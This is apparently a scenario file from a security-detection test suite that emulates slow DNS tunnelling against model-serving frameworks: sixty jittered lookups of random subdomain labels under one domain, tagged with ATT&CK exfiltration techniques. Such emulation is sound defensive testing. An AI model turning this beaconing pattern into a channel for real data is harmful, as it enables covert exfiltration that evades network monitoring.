"""
id: S21
name: slow-dns
class: mimicry
phase: serve
trigger: request
evidence: [dns]
techniques: [T1048.003, T1071.004, T1029, T1030, AML.T0025]
servers: [fastapi, bentoml, triton]
seconds: 420
what: >
  Resolves a long random name under one domain every five seconds or so, sixty times, with the system's own resolver, and
  connects to none of them.
"""

import base64
import contextlib
import socket

NAMES = 60


def payload(world):
    domain = world.host()
    for _ in range(NAMES):
        label = base64.b32encode(world.random.randbytes(25)).decode().lower()[: world.random.randint(24, 40)]
        with contextlib.suppress(OSError):
            socket.gethostbyname(f"{label}.{domain}")
        world.sleep(world.random.uniform(3.5, 6.5))
